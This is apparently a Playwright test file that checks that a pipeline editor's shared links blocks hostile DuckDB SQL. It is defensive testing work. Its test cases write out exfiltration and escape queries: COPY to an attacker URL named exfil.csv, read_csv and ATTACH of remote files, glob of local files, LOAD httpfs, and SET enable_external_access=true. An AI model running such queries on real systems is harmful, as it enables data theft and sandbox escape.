// Hostile SQL in shared links: each link is opened, accepted, given the files it needs and run; the
// sql node must fail with a permission error on the node, nothing may leave the origin (the local
// attacker server records every request), and the pipelines stored before stay as they were.
import { expect, test } from '@playwright/test';
import { well1, well2 } from './fixtures/files.ts';
import type { TestFile } from './pages/editor.ts';
import { linkFor, openGuarded, startAttacker, type Attacker } from './pages/share.ts';

test.use({ viewport: { width: 1440, height: 900 } });
// Runs start DuckDB and a 10 MB URL is slow for the browser itself: room for a busy machine.
test.setTimeout(120_000);

let attacker: Attacker;
test.beforeAll(async () => {
  attacker = await startAttacker();
});
test.afterAll(async () => {
  await attacker.close();
});

function sqlPipeline(query: string): string {
  return JSON.stringify({
    format: 'petroflow.pipeline',
    formatVersion: 1,
    id: 'hostile-sql',
    name: 'Hostile SQL',
    nodes: [
      {
        id: 'logs',
        op: 'source.las',
        version: '1.0.0',
        params: { file: 'well-1.las' },
        position: { x: 0, y: 0 },
      },
      {
        id: 'q',
        op: 'sql',
        version: '1.0.0',
        params: { query, inputs: ['input'] },
        position: { x: 0, y: 200 },
      },
    ],
    edges: [{ from: 'logs', fromPort: 'out', to: 'q', toPort: 'input' }],
  });
}

const url = () => `http://127.0.0.1:${attacker.port}`;
const cases: { name: string; query: () => string; files: () => TestFile[]; why: RegExp }[] = [
  {
    name: 'read_csv of a URL on a local server',
    query: () => `SELECT * FROM read_csv('${url()}/steal.csv')`,
    files: () => [well1()],
    why: /Cannot access file "http/,
  },
  {
    name: 'read_text of another library file',
    query: () => "SELECT * FROM read_text('well-2.las')",
    files: () => [well1(), well2()],
    why: /Cannot access file "well-2\.las"/,
  },
  {
    name: "glob('*')",
    query: () => "SELECT * FROM glob('*')",
    files: () => [well1(), well2()],
    why: /Cannot access file "\*"/,
  },
  {
    name: 'COPY ... TO a URL',
    query: () => `COPY (SELECT * FROM input) TO '${url()}/exfil.csv'`,
    files: () => [well1()],
    why: /Cannot access file/,
  },
  {
    name: 'ATTACH',
    query: () => `ATTACH '${url()}/evil.db' AS evil`,
    files: () => [well1()],
    why: /Cannot access file/,
  },
  {
    name: 'LOAD of an extension',
    query: () => 'LOAD httpfs',
    files: () => [well1()],
    why: /Loading external extensions is disabled/,
  },
  {
    name: 'SET to undo the lock-down',
    query: () => 'SET enable_external_access=true',
    files: () => [well1()],
    why: /configuration has been locked/,
  },
];

for (const c of cases) {
  test(`hostile SQL link: ${c.name} fails with a permission error and reaches nothing`, async ({
    context,
    baseURL,
  }) => {
    const { guard, app, share } = await openGuarded(context, baseURL!);
    const page = app.page;
    const before = await share.stored();
    await share.visit(linkFor(baseURL!, sqlPipeline(c.query())));
    const dialog = share.linkDialog();
    await expect(dialog).toHaveAccessibleName('Open a shared pipeline?');
    await expect(dialog.getByTestId('link-node-q')).toContainText('sql v1.0.0');
    const expects = dialog.getByRole('list', { name: 'Files it expects' });
    await expect(expects).toContainText('well-1.las (node logs): missing');
    // The needed files are added from the dialog itself; the list follows.
    await dialog
      .getByLabel('Add missing files')
      .setInputFiles(
        c
          .files()
          .map((f) => ({ name: f.name, mimeType: 'text/plain', buffer: Buffer.from(f.content) })),
      );
    await expect(expects).toContainText('found well-1.las');
    await share.accept();
    await expect(page.getByLabel('Pipeline name')).toHaveValue('Hostile SQL');

    await app.command('Run');
    await expect(app.node('q')).toHaveAttribute('data-status', 'failed', { timeout: 60_000 });
    const error = app.node('q').locator('.op-error');
    await expect(error).toContainText('Pipelines may read only their input tables');
    await expect(error).toContainText(c.why);
    await expect(app.node('logs')).toHaveAttribute('data-status', /done|cached/);

    // Stored pipelines: every one from before is unchanged; the link became one new pipeline.
    await app.saved();
    const after = await share.stored();
    expect(after.filter((r) => before.some((b) => b.key === r.key))).toEqual(before);
    const added = after.filter((r) => !before.some((b) => b.key === r.key));
    expect(added).toHaveLength(1);
    expect(added[0]?.key).not.toBe('hostile-sql');
    expect(attacker.requests).toEqual([]);
    await guard.assertClean(page);
    expect(app.errors).toEqual([]);
  });
}
